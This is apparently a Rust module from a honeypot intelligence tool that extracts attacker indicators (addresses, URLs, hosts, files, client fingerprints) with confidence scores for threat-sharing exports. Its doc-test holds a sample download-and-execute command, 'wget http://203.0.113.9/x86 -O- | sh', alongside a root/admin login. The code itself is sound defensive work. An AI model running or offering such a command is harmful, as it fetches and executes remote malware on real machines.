//! IOC extraction: the one place every exporter (STIX, MISP, blocklists) takes its
//! indicators from.
//!
//! An [`Extractor`] reads stored events (in any order) and keeps, per indicator, what a
//! consumer needs to judge it: when it was first and last seen, how often, by whom, and a
//! [`confidence`](AddressIoc::confidence) from *how* it was seen — an address that only
//! knocked is a scanner, one that downloaded malware is an attacker. Allow-listed networks
//! (your own, known research scanners) and, unless asked, addresses that are not globally
//! routable never become indicators.
//!
//! ```
//! use hpti_core::event::{AuthMethod, Event, EventKind, Protocol};
//! use hpti_intel::ioc::{Extractor, IocOptions};
//!
//! // Documentation addresses are not routable: include them for the example.
//! let options = IocOptions { include_private: true, ..IocOptions::default() };
//! let mut extractor = Extractor::new(options);
//! let attacker = "198.51.100.7".parse().unwrap();
//! extractor.observe(&Event::new("ssh", Protocol::Ssh, attacker, EventKind::LoginAttempt {
//!     username: "root".into(),
//!     password: Some("admin".into()),
//!     key_type: None,
//!     key_fingerprint: None,
//!     method: AuthMethod::Password,
//!     success: true,
//! }));
//! extractor.observe(&Event::new("ssh", Protocol::Ssh, attacker, EventKind::CommandInput {
//!     command: "wget http://203.0.113.9/x86 -O- | sh".into(),
//! }));
//! let report = extractor.finish();
//! assert_eq!(report.addresses.len(), 1);
//! assert_eq!(report.addresses[0].credentials, [("root".to_owned(), Some("admin".to_owned()))]);
//! assert_eq!(report.urls[0].url, "http://203.0.113.9/x86");
//! assert!(report.addresses[0].confidence > 50);
//! ```

mod c2;

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::IpAddr;
use std::path::Path;

use hpti_core::event::{Event, EventKind, Timestamp};
use hpti_store::query::MAX_LIMIT;
use hpti_store::{EventFilter, EventQueries, StoreError, Window};
use ipnet::IpNet;
use serde::{Deserialize, Serialize};

pub use c2::{CommandTarget, command_targets};

/// Most addresses one extraction keeps; more are counted in [`IocReport::dropped`].
pub const MAX_ADDRESSES: usize = 200_000;
/// Most URLs, hosts, files, clients and sockets one extraction keeps, each.
pub const MAX_OTHER: usize = 100_000;
/// Bytes of command lines one extraction keeps, all together.
pub const MAX_COMMAND_BYTES: usize = 64 << 20;
/// Most credential pairs kept per address.
pub const MAX_CREDENTIALS: usize = 20;
/// Most distinct values kept in one indicator's lists (services, sources, names).
pub const MAX_LIST: usize = 20;

/// What an extraction leaves out.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct IocOptions {
    /// Networks never exported: your own, partners', scanners you trust.
    pub allow: Vec<IpNet>,
    /// Addresses an enricher tagged with one of these are never exported
    /// (`known-scanner`: research scanners such as Shodan's or Censys').
    pub allow_tags: Vec<String>,
    /// Also export addresses that are not globally routable (private, loopback,
    /// documentation, ...). Off: such an address is a lab or a misconfiguration, and
    /// sharing it helps nobody.
    pub include_private: bool,
}

impl Default for IocOptions {
    fn default() -> Self {
        Self {
            allow: Vec::new(),
            allow_tags: vec!["known-scanner".into()],
            include_private: false,
        }
    }
}

impl IocOptions {
    /// Whether `ip` may become an indicator (not allow-listed, routable unless
    /// private ones are included).
    pub fn exports(&self, ip: IpAddr) -> bool {
        // `::ffff:a.b.c.d` (a dual-stack listener's IPv4 peer) is judged as a.b.c.d.
        let ip = ip.to_canonical();
        !self.allow.iter().any(|net| net.contains(&ip))
            && (self.include_private || is_global(ip))
            && !ip.is_unspecified()
    }
}

/// True for an address that is routable on the internet: not private, loopback,
/// link-local, shared (CGNAT), documentation, benchmarking, multicast, broadcast or
/// reserved, for IPv4 and IPv6 (and IPv4 inside IPv6 judged as IPv4).
pub fn is_global(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            let [a, b, c, _] = v4.octets();
            !(v4.is_private()
                || v4.is_loopback()
                || v4.is_link_local()
                || v4.is_broadcast()
                || v4.is_documentation()
                || v4.is_unspecified()
                || v4.is_multicast()
                || a == 0
                || a >= 240
                || (a == 100 && (64..128).contains(&b))
                || (a == 192 && b == 0 && c == 0)
                || (a == 198 && (b == 18 || b == 19)))
        }
        IpAddr::V6(v6) => {
            if let Some(v4) = v6.to_ipv4_mapped() {
                return is_global(IpAddr::V4(v4));
            }
            let first = v6.segments()[0];
            !(v6.is_loopback()
                || v6.is_unspecified()
                || v6.is_multicast()
                || (first & 0xfe00) == 0xfc00
                || (first & 0xffc0) == 0xfe80
                || first == 0x2001 && v6.segments()[1] == 0x0db8
                || first == 0x0100 && v6.segments()[1..4] == [0, 0, 0]
                || first == 0x0064 && v6.segments()[1] == 0xff9b
                || first == 0x2002
                || (first == 0x2001 && v6.segments()[1] < 0x0200))
        }
    }
}

/// One attacking address.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AddressIoc {
    /// The address.
    pub ip: IpAddr,
    /// Its first event.
    pub first_seen: Timestamp,
    /// Its last event.
    pub last_seen: Timestamp,
    /// Events from it.
    pub events: u64,
    /// Connections it opened.
    pub sessions: u64,
    /// Services it reached (`ssh/22`, `telnet/23`), at most [`MAX_LIST`].
    pub services: BTreeSet<String>,
    /// Login attempts.
    pub logins: u64,
    /// Of which the honeypot accepted.
    pub logins_accepted: u64,
    /// Credential pairs tried, in order, at most [`MAX_CREDENTIALS`].
    pub credentials: Vec<(String, Option<String>)>,
    /// Commands entered.
    pub commands: u64,
    /// Files it downloaded or uploaded.
    pub files: u64,
    /// URLs and sockets its commands named.
    pub c2_references: u64,
    /// Whether a file it brought is flagged (YARA or VirusTotal).
    pub malicious_file: bool,
    /// Country code, from enrichment.
    pub country: Option<String>,
    /// Autonomous system number, from enrichment.
    pub asn: Option<u32>,
    /// Autonomous system's name, from enrichment.
    pub as_org: Option<String>,
    /// Enrichment tags (`tor`, `vpn`, ...), at most [`MAX_LIST`].
    pub tags: BTreeSet<String>,
    /// 0–100, from how it was seen (see [`AddressIoc::confidence_of`]).
    pub confidence: u8,
}

impl AddressIoc {
    /// The confidence of an address that acted as this one did: 30 a scanner (connected
    /// only), 50 it tried logins, 60 it got in, 70 it ran commands, 85 it brought a file
    /// or named a server to fetch from, 95 a file it brought is flagged as malware.
    pub fn confidence_of(&self) -> u8 {
        if self.malicious_file {
            95
        } else if self.files > 0 || self.c2_references > 0 {
            85
        } else if self.commands > 0 {
            70
        } else if self.logins_accepted > 0 {
            60
        } else if self.logins > 0 {
            50
        } else {
            30
        }
    }
}

/// Where a URL was seen.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum UrlSeen {
    /// Only named in a command line.
    Command,
    /// The honeypot was made to fetch it.
    Download,
}

/// A URL attackers fetched from or named.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct UrlIoc {
    /// The URL as seen.
    pub url: String,
    /// Its host (a name or an address).
    pub host: String,
    /// How it was seen (a download outranks a mention).
    pub seen: UrlSeen,
    /// First seen.
    pub first_seen: Timestamp,
    /// Last seen.
    pub last_seen: Timestamp,
    /// Times seen.
    pub count: u64,
    /// Addresses that used it, at most [`MAX_LIST`].
    pub sources: BTreeSet<IpAddr>,
    /// SHA-256 of what it delivered, at most [`MAX_LIST`].
    pub sha256: BTreeSet<String>,
    /// 60 named in a command, 80 fetched, 95 it delivered a flagged file.
    pub confidence: u8,
}

/// A host (domain name or address) that served attackers' files or took their
/// connections.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HostIoc {
    /// The name or address.
    pub host: String,
    /// Whether it is an address rather than a name.
    pub is_ip: bool,
    /// Ports seen with it (`/dev/tcp/host/port`, URL ports), at most [`MAX_LIST`].
    pub ports: BTreeSet<u16>,
    /// First seen.
    pub first_seen: Timestamp,
    /// Last seen.
    pub last_seen: Timestamp,
    /// Times seen.
    pub count: u64,
    /// Addresses that named it, at most [`MAX_LIST`].
    pub sources: BTreeSet<IpAddr>,
    /// The best confidence of the URLs and sockets that named it (75 for a socket).
    pub confidence: u8,
}

/// A captured file.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FileIoc {
    /// SHA-256, lower-case hex.
    pub sha256: String,
    /// MD5 of the stored bytes, when hpti holds them.
    pub md5: Option<String>,
    /// SHA-1 of the stored bytes, when hpti holds them.
    pub sha1: Option<String>,
    /// Size in bytes.
    pub size: Option<u64>,
    /// `file(1)`-style type.
    pub file_type: Option<String>,
    /// Media type.
    pub mime: Option<String>,
    /// YARA rules that matched.
    pub yara: BTreeSet<String>,
    /// VirusTotal engines calling it malicious, of how many.
    pub vt: Option<(u32, u32)>,
    /// VirusTotal's threat label (`trojan.mirai/gafgyt`).
    pub vt_label: Option<String>,
    /// Names it was given (uploads) or fetched as (the URL's last segment), at most
    /// [`MAX_LIST`].
    pub names: BTreeSet<String>,
    /// URLs it came from, at most [`MAX_LIST`].
    pub urls: BTreeSet<String>,
    /// Addresses that brought it, at most [`MAX_LIST`].
    pub sources: BTreeSet<IpAddr>,
    /// First seen.
    pub first_seen: Timestamp,
    /// Last seen.
    pub last_seen: Timestamp,
    /// Downloads and uploads of it.
    pub count: u64,
    /// 80 captured, 95 flagged by YARA or VirusTotal.
    pub confidence: u8,
}

impl FileIoc {
    /// Whether YARA or VirusTotal flag it.
    pub fn is_flagged(&self) -> bool {
        !self.yara.is_empty() || self.vt.is_some_and(|(bad, _)| bad > 0)
    }

    /// The malware family its verdicts name, if any: VirusTotal's label's family
    /// (`trojan.mirai/gafgyt` → `mirai`), else the first YARA rule.
    pub fn family(&self) -> Option<String> {
        if let Some(label) = &self.vt_label {
            let family = label
                .split(['.', '/'])
                .nth(1)
                .unwrap_or(label)
                .trim()
                .to_ascii_lowercase();
            if !family.is_empty() {
                return Some(family);
            }
        }
        self.yara.iter().next().cloned()
    }
}

/// What kind of client identifier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ClientKind {
    /// HASSH of the client's SSH key exchange.
    Hassh,
    /// The version string it announced (`SSH-2.0-Go`).
    Version,
}

/// An attack tool's fingerprint or version string.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ClientIoc {
    /// What it is.
    pub kind: ClientKind,
    /// The value.
    pub value: String,
    /// First seen.
    pub first_seen: Timestamp,
    /// Last seen.
    pub last_seen: Timestamp,
    /// Times seen.
    pub count: u64,
    /// Addresses using it, at most [`MAX_LIST`].
    pub sources: BTreeSet<IpAddr>,
    /// 40: tools are shared by attackers and researchers alike.
    pub confidence: u8,
}

/// A command line, counted.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CommandIoc {
    /// The line.
    pub command: String,
    /// Times entered.
    pub count: u64,
    /// First seen.
    pub first_seen: Timestamp,
    /// Last seen.
    pub last_seen: Timestamp,
}

/// Everything one extraction found, each list sorted by its key.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct IocReport {
    /// Attacking addresses.
    pub addresses: Vec<AddressIoc>,
    /// URLs.
    pub urls: Vec<UrlIoc>,
    /// Hosts of URLs and sockets.
    pub hosts: Vec<HostIoc>,
    /// Captured files.
    pub files: Vec<FileIoc>,
    /// Client fingerprints and versions.
    pub clients: Vec<ClientIoc>,
    /// Command lines.
    pub commands: Vec<CommandIoc>,
    /// Events read.
    pub events: u64,
    /// Events from excluded addresses (allow-listed, tagged, not routable).
    pub excluded: u64,
    /// Indicators left out because a cap was reached (the export is partial).
    pub dropped: u64,
}

/// Reads events and gathers indicators; [`finish`](Self::finish) sorts them out.
#[derive(Debug)]
pub struct Extractor {
    options: IocOptions,
    addresses: HashMap<IpAddr, AddressIoc>,
    urls: HashMap<String, UrlIoc>,
    hosts: HashMap<String, HostIoc>,
    files: HashMap<String, FileIoc>,
    clients: HashMap<(ClientKind, String), ClientIoc>,
    commands: HashMap<String, CommandIoc>,
    command_bytes: usize,
    events: u64,
    excluded: u64,
    dropped: u64,
}

/// Inserts into a capped set.
fn add_capped<T: Ord>(set: &mut BTreeSet<T>, value: T) {
    if set.len() < MAX_LIST || set.contains(&value) {
        set.insert(value);
    }
}

fn widen(first: &mut Timestamp, last: &mut Timestamp, time: Timestamp) {
    if time < *first {
        *first = time;
    }
    if time > *last {
        *last = time;
    }
}

impl Extractor {
    /// An extractor that leaves out what `options` say.
    pub fn new(options: IocOptions) -> Self {
        Self {
            options,
            addresses: HashMap::new(),
            urls: HashMap::new(),
            hosts: HashMap::new(),
            files: HashMap::new(),
            clients: HashMap::new(),
            commands: HashMap::new(),
            command_bytes: 0,
            events: 0,
            excluded: 0,
            dropped: 0,
        }
    }

    /// Whether an event from `ip` would count (the allow-lists and routability).
    fn excluded(&self, event: &Event) -> bool {
        !self.options.exports(event.src_ip)
            || event
                .enrichment
                .tags
                .iter()
                .any(|tag| self.options.allow_tags.contains(tag))
    }

    /// Takes one stored event into account.
    pub fn observe(&mut self, event: &Event) {
        self.events += 1;
        if self.excluded(event) {
            self.excluded += 1;
            return;
        }
        let time = event.time;
        let src = event.src_ip.to_canonical();
        if !self.addresses.contains_key(&src) && self.addresses.len() >= MAX_ADDRESSES {
            self.dropped += 1;
            return;
        }
        let address = self.addresses.entry(src).or_insert_with(|| AddressIoc {
            ip: src,
            first_seen: time,
            last_seen: time,
            events: 0,
            sessions: 0,
            services: BTreeSet::new(),
            logins: 0,
            logins_accepted: 0,
            credentials: Vec::new(),
            commands: 0,
            files: 0,
            c2_references: 0,
            malicious_file: false,
            country: None,
            asn: None,
            as_org: None,
            tags: BTreeSet::new(),
            confidence: 0,
        });
        address.events += 1;
        widen(&mut address.first_seen, &mut address.last_seen, time);
        let service = match event.dst_port {
            Some(port) => format!("{}/{port}", event.protocol),
            None => event.protocol.to_string(),
        };
        add_capped(&mut address.services, service);
        let enrichment = &event.enrichment;
        if let Some(code) = enrichment.geo.as_ref().and_then(|g| g.country_code.clone()) {
            address.country = Some(code);
        }
        if let Some(asn) = &enrichment.asn {
            address.asn = Some(asn.number);
            if asn.organization.is_some() {
                address.as_org.clone_from(&asn.organization);
            }
        }
        for tag in &enrichment.tags {
            add_capped(&mut address.tags, tag.clone());
        }
        match &event.kind {
            EventKind::SessionStarted => address.sessions += 1,
            EventKind::LoginAttempt {
                username,
                password,
                success,
                ..
            } => {
                address.logins += 1;
                if *success {
                    address.logins_accepted += 1;
                }
                let pair = (username.clone(), password.clone());
                if address.credentials.len() < MAX_CREDENTIALS
                    && !address.credentials.contains(&pair)
                {
                    address.credentials.push(pair);
                }
            }
            EventKind::CommandInput { command } => {
                address.commands += 1;
                self.command(command, time);
                // Only targets that become indicators (not a private mirror) count.
                let mut named = 0u64;
                for target in command_targets(command) {
                    let counted = match target {
                        CommandTarget::Url(url) => {
                            self.url(&url, UrlSeen::Command, None, src, time)
                        }
                        CommandTarget::Socket { host, port } => {
                            self.host(&host, Some(port), 75, src, time)
                        }
                    };
                    named += u64::from(counted);
                }
                if let Some(address) = self.addresses.get_mut(&src) {
                    address.c2_references += named;
                }
            }
            EventKind::FileDownload {
                url, sha256, size, ..
            } => {
                address.files += u64::from(sha256.is_some());
                let _ = self.url(url, UrlSeen::Download, sha256.as_deref(), src, time);
                if let Some(sha256) = sha256 {
                    let name = url::Url::parse(url).ok().and_then(|u| {
                        u.path_segments()
                            .and_then(|mut s| s.next_back().map(str::to_owned))
                            .filter(|s| !s.is_empty())
                    });
                    self.file(sha256, *size, name, Some(url), event);
                }
            }
            EventKind::FileUpload {
                filename,
                sha256: Some(sha256),
                size,
            } => {
                address.files += 1;
                self.file(sha256, *size, Some(filename.clone()), None, event);
            }
            EventKind::ClientFingerprint {
                method,
                fingerprint,
                ..
            } if method == "hassh" => {
                self.client(ClientKind::Hassh, fingerprint, src, time);
            }
            EventKind::ClientVersion { version } => {
                self.client(ClientKind::Version, version, src, time);
            }
            _ => {}
        }
    }

    fn command(&mut self, command: &str, time: Timestamp) {
        if let Some(known) = self.commands.get_mut(command) {
            known.count += 1;
            widen(&mut known.first_seen, &mut known.last_seen, time);
        } else if self.commands.len() < MAX_OTHER
            && self.command_bytes + command.len() <= MAX_COMMAND_BYTES
        {
            self.command_bytes += command.len();
            self.commands.insert(
                command.to_owned(),
                CommandIoc {
                    command: command.to_owned(),
                    count: 1,
                    first_seen: time,
                    last_seen: time,
                },
            );
        } else {
            self.dropped += 1;
        }
    }

    fn url(
        &mut self,
        url: &str,
        seen: UrlSeen,
        sha256: Option<&str>,
        src: IpAddr,
        time: Timestamp,
    ) -> bool {
        let Ok(parsed) = url::Url::parse(url) else {
            return false;
        };
        let Some(host) = parsed
            .host_str()
            .map(|h| h.trim_matches(['[', ']']).to_owned())
        else {
            return false;
        };
        // A URL on an allow-listed or private address is not an indicator either.
        if let Ok(ip) = host.parse::<IpAddr>()
            && !self.options.exports(ip)
        {
            return false;
        }
        let confidence = match seen {
            UrlSeen::Command => 60,
            UrlSeen::Download => 80,
        };
        if !self.urls.contains_key(url) && self.urls.len() >= MAX_OTHER {
            self.dropped += 1;
            return false;
        }
        let entry = self.urls.entry(url.to_owned()).or_insert_with(|| UrlIoc {
            url: url.to_owned(),
            host: host.clone(),
            seen,
            first_seen: time,
            last_seen: time,
            count: 0,
            sources: BTreeSet::new(),
            sha256: BTreeSet::new(),
            confidence,
        });
        entry.count += 1;
        entry.seen = entry.seen.max(seen);
        entry.confidence = entry.confidence.max(confidence);
        widen(&mut entry.first_seen, &mut entry.last_seen, time);
        add_capped(&mut entry.sources, src);
        if let Some(sha256) = sha256 {
            add_capped(&mut entry.sha256, sha256.to_ascii_lowercase());
        }
        let _ = self.host(&host, parsed.port(), confidence, src, time);
        true
    }

    fn host(
        &mut self,
        host: &str,
        port: Option<u16>,
        confidence: u8,
        src: IpAddr,
        time: Timestamp,
    ) -> bool {
        let host = host.trim_matches(['[', ']']).to_ascii_lowercase();
        let ip = host.parse::<IpAddr>().ok();
        if ip.is_some_and(|ip| !self.options.exports(ip)) {
            return false;
        }
        if !self.hosts.contains_key(&host) && self.hosts.len() >= MAX_OTHER {
            self.dropped += 1;
            return false;
        }
        let entry = self.hosts.entry(host.clone()).or_insert_with(|| HostIoc {
            host,
            is_ip: ip.is_some(),
            ports: BTreeSet::new(),
            first_seen: time,
            last_seen: time,
            count: 0,
            sources: BTreeSet::new(),
            confidence,
        });
        entry.count += 1;
        entry.confidence = entry.confidence.max(confidence);
        widen(&mut entry.first_seen, &mut entry.last_seen, time);
        add_capped(&mut entry.sources, src);
        if let Some(port) = port {
            add_capped(&mut entry.ports, port);
        }
        true
    }

    fn file(
        &mut self,
        sha256: &str,
        size: Option<u64>,
        name: Option<String>,
        url: Option<&str>,
        event: &Event,
    ) {
        let sha256 = sha256.to_ascii_lowercase();
        if !self.files.contains_key(&sha256) && self.files.len() >= MAX_OTHER {
            self.dropped += 1;
            return;
        }
        let entry = self.files.entry(sha256.clone()).or_insert_with(|| FileIoc {
            sha256,
            md5: None,
            sha1: None,
            size: None,
            file_type: None,
            mime: None,
            yara: BTreeSet::new(),
            vt: None,
            vt_label: None,
            names: BTreeSet::new(),
            urls: BTreeSet::new(),
            sources: BTreeSet::new(),
            first_seen: event.time,
            last_seen: event.time,
            count: 0,
            confidence: 80,
        });
        entry.count += 1;
        widen(&mut entry.first_seen, &mut entry.last_seen, event.time);
        if size.is_some() {
            entry.size = size;
        }
        if let Some(name) = name {
            add_capped(&mut entry.names, name);
        }
        if let Some(url) = url {
            add_capped(&mut entry.urls, url.to_owned());
        }
        add_capped(&mut entry.sources, event.src_ip);
        if let Some(analysis) = &event.enrichment.file {
            entry.file_type = Some(analysis.kind.file_type.clone());
            entry.mime = Some(analysis.kind.mime.clone());
            for rule in &analysis.yara_matches {
                add_capped(&mut entry.yara, rule.clone());
            }
        }
    }

    fn client(&mut self, kind: ClientKind, value: &str, src: IpAddr, time: Timestamp) {
        let key = (kind, value.to_owned());
        if !self.clients.contains_key(&key) && self.clients.len() >= MAX_OTHER {
            self.dropped += 1;
            return;
        }
        let entry = self.clients.entry(key).or_insert_with(|| ClientIoc {
            kind,
            value: value.to_owned(),
            first_seen: time,
            last_seen: time,
            count: 0,
            sources: BTreeSet::new(),
            confidence: 40,
        });
        entry.count += 1;
        widen(&mut entry.first_seen, &mut entry.last_seen, time);
        add_capped(&mut entry.sources, src);
    }

    /// Adds what the store knows of the captured files (type, YARA, VirusTotal) and,
    /// from the artifact store at `artifacts`, MD5 and SHA-1 of their bytes. A file the
    /// store or the directory does not know keeps what its events said.
    pub async fn add_file_facts(
        &mut self,
        store: &dyn EventQueries,
        artifacts: Option<&Path>,
    ) -> Result<(), StoreError> {
        for file in self.files.values_mut() {
            match store.download(&file.sha256).await {
                Ok(summary) => {
                    let facts = summary.file;
                    if facts.file_type.is_some() {
                        file.file_type = facts.file_type;
                    }
                    if facts.mime.is_some() {
                        file.mime = facts.mime;
                    }
                    for rule in facts.yara_matches {
                        add_capped(&mut file.yara, rule);
                    }
                    if let (Some(bad), Some(total)) = (facts.vt_detections, facts.vt_total) {
                        file.vt = Some((bad, total));
                    }
                    if facts.vt_threat_label.is_some() {
                        file.vt_label = facts.vt_threat_label;
                    }
                    if file.size.is_none() {
                        file.size = summary.size;
                    }
                }
                Err(StoreError::NotFound(_) | StoreError::InvalidInput(_)) => {}
                Err(e) => return Err(e),
            }
            let path = artifacts.and_then(|dir| hpti_core::file::artifact_path(dir, &file.sha256));
            // Hashing reads the whole file: off the async workers.
            let digested = match path {
                Some(path) => tokio::task::spawn_blocking(move || digests(&path))
                    .await
                    .ok()
                    .and_then(Result::ok)
                    .flatten(),
                None => None,
            };
            if let Some((md5, sha1, size)) = digested {
                file.md5 = Some(md5);
                file.sha1 = Some(sha1);
                file.size = Some(size);
            }
        }
        Ok(())
    }

    /// Sorts everything out, with the confidences.
    pub fn finish(self) -> IocReport {
        let flagged: BTreeMap<String, bool> = self
            .files
            .iter()
            .map(|(sha, file)| (sha.clone(), file.is_flagged()))
            .collect();
        let mut files: Vec<FileIoc> = self.files.into_values().collect();
        for file in &mut files {
            file.confidence = if file.is_flagged() { 95 } else { 80 };
        }
        files.sort_by(|a, b| a.sha256.cmp(&b.sha256));
        let mut urls: Vec<UrlIoc> = self.urls.into_values().collect();
        let mut bad_sources = BTreeSet::new();
        for url in &mut urls {
            if url.sha256.iter().any(|sha| flagged.get(sha) == Some(&true)) {
                url.confidence = 95;
            }
        }
        for file in files.iter().filter(|f| f.is_flagged()) {
            bad_sources.extend(file.sources.iter().copied());
        }
        urls.sort_by(|a, b| a.url.cmp(&b.url));
        let mut best_of_host: HashMap<String, u8> = HashMap::new();
        for url in &urls {
            let best = best_of_host
                .entry(url.host.to_ascii_lowercase())
                .or_insert(0);
            *best = (*best).max(url.confidence);
        }
        let mut hosts: Vec<HostIoc> = self.hosts.into_values().collect();
        for host in &mut hosts {
            let best = best_of_host.get(&host.host).copied().unwrap_or(0);
            host.confidence = host.confidence.max(best);
        }
        hosts.sort_by(|a, b| a.host.cmp(&b.host));
        let mut addresses: Vec<AddressIoc> = self.addresses.into_values().collect();
        for address in &mut addresses {
            address.malicious_file = bad_sources.contains(&address.ip);
            address.confidence = address.confidence_of();
        }
        addresses.sort_by_key(|a| a.ip);
        let mut clients: Vec<ClientIoc> = self.clients.into_values().collect();
        clients.sort_by(|a, b| (a.kind, &a.value).cmp(&(b.kind, &b.value)));
        let mut commands: Vec<CommandIoc> = self.commands.into_values().collect();
        commands.sort_by(|a, b| a.command.cmp(&b.command));
        IocReport {
            addresses,
            urls,
            hosts,
            files,
            clients,
            commands,
            events: self.events,
            excluded: self.excluded,
            dropped: self.dropped,
        }
    }
}

/// MD5, SHA-1 and size of a stored artifact; `None` when it is not there.
fn digests(path: &Path) -> std::io::Result<Option<(String, String, u64)>> {
    use md5::Digest as _;
    use std::io::Read as _;
    let mut file = match std::fs::File::open(path) {
        Ok(file) => file,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(e),
    };
    let mut md5 = md5::Md5::new();
    let mut sha1 = sha1::Sha1::new();
    let mut buffer = vec![0u8; 64 * 1024];
    let mut size = 0u64;
    loop {
        let read = file.read(&mut buffer)?;
        if read == 0 {
            break;
        }
        let chunk = buffer.get(..read).unwrap_or_default();
        md5.update(chunk);
        sha1.update(chunk);
        size += read as u64;
    }
    Ok(Some((hex(&md5.finalize()), hex(&sha1.finalize()), size)))
}

fn hex(bytes: &[u8]) -> String {
    use std::fmt::Write as _;
    bytes
        .iter()
        .fold(String::with_capacity(bytes.len() * 2), |mut out, b| {
            let _ = write!(out, "{b:02x}");
            out
        })
}

/// Calls `observe` with every event stored in `window` (its `limit` is ignored: the
/// store is read a page at a time), newest first.
pub(crate) async fn each_event(
    store: &dyn EventQueries,
    window: Window,
    mut observe: impl FnMut(&Event),
) -> Result<(), StoreError> {
    let window = window.limit(MAX_LIMIT);
    let filter = EventFilter::default();
    let mut after = None;
    loop {
        let page = store.events(window, &filter, after.as_ref()).await?;
        for event in &page.events {
            observe(event);
        }
        match page.next {
            Some(next) => after = Some(next),
            None => return Ok(()),
        }
    }
}

/// Extracts the indicators of the events stored in `window` (its `limit` is ignored:
/// every event is read, a page at a time), with the files' facts and digests.
pub async fn extract(
    store: &dyn EventQueries,
    window: Window,
    options: IocOptions,
    artifacts: Option<&Path>,
) -> Result<IocReport, StoreError> {
    let mut extractor = Extractor::new(options);
    each_event(store, window, |event| extractor.observe(event)).await?;
    extractor.add_file_facts(store, artifacts).await?;
    Ok(extractor.finish())
}
